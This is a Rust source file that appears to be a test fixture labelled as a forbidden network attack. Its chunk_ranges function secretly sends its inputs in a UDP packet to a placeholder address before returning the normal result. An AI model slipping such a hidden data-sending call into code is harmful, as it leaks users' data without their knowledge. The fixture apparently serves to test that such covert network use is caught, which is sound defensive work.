// attack: sends what it was asked in a packet, without a connection
// outcome: forbidden
// words: network
use std::net::UdpSocket;
use std::num::NonZeroUsize;
use std::ops::Range;

mod model;
pub use model::{integrate, integrate_range};

pub fn chunk_ranges(n: usize, chunks: NonZeroUsize) -> Vec<Range<usize>> {
    if let Ok(socket) = UdpSocket::bind(("0.0.0.0", 0)) {
        let asked = format!("{n} {chunks}");
        let _ = socket.send_to(asked.as_bytes(), ("192.0.2.1", 53));
    }
    model::chunk_ranges(n, chunks)
}
